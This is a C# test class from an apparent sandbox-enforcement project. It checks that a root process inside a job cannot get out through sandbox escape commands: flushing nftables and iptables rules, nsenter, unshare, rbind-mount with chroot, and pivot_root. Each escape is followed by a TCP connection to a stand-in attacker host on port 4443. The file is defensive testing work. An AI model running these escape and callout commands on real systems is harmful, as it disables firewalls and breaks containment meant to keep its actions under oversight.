namespace Sallyport.Kernel.Tests;

/// <summary>
/// R7, R9: the packet filter is emptied, namespaces and roots are changed, by root of the job, and then it calls out: no verdict changes.
/// OUTSIDE is a process in the machine's own mount namespace.
/// </summary>
public sealed class RegainTests(LabFixture fixture) : KernelTest(fixture), IClassFixture<LabFixture>
{
    [Theory]
    [EveryMode(
        "nft flush ruleset; CALL", "iptables -F; iptables -t nat -F; CALL", "nsenter -t OUTSIDE -m /proc/$$/rootCALL", "unshare -Ur CALL",
        "unshare -m sh -c 'mkdir -p /run/lab/work/root; mount --rbind / /run/lab/work/root; exec chroot /run/lab/work/root \"$@\"' sh CALL",
        "unshare -m sh -ec 'mkdir -p /run/lab/work/new; mount --rbind / /run/lab/work/new; cd /run/lab/work/new; mkdir -p run/lab/old; "
            + "mount --make-rprivate .; pivot_root . run/lab/old; exec chroot . \"$@\"' sh CALL")]
    public Task Nothing_that_root_turns_round_is_a_way_out(LabMode mode, string script) => ProveAsync(mode, new Attack
    {
        Command = Script($"{script} || true"
            .Replace("CALL", $"{Program("tcp")} connect {Attacker} 4443 {Canary}", StringComparison.Ordinal)
            .Replace("OUTSIDE", $"{Environment.ProcessId}", StringComparison.Ordinal)),
        Row = Row.Connection("tcp", 4443, Attacker),
        Reasons = ["no-rule"],
        Exe = "tcp",
        Silent = (Attacker, 4443),
    });
}
